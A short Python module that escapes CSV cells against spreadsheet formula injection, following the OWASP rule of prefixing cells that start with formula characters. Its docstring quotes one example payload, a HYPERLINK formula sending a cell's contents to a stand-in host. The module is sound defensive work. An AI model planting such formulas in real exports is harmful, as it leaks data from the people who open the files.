"""One rule for every CSV cell the product writes: no cell may start a spreadsheet formula.

A crawled title such as ``=HYPERLINK("http://evil.example/?x="&A1,"klicka")`` would run as
a formula when a researcher opens an export in Excel or LibreOffice. OWASP's rule: a cell
beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a
single quote, which spreadsheets show as text. Lists are joined with "; " into one cell.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LIST_SEPARATOR = "; "


def csv_cell(value: object) -> str:
    """``value`` as the text of one CSV cell that no spreadsheet evaluates."""
    if value is None:
        text = ""
    elif isinstance(value, list | tuple):
        text = LIST_SEPARATOR.join("" if v is None else str(v) for v in value)
    else:
        text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_row(values: Iterable[object]) -> list[str]:
    """Every value of a row through ``csv_cell``."""
    return [csv_cell(value) for value in values]


__all__ = ["FORMULA_STARTS", "csv_cell", "csv_row"]
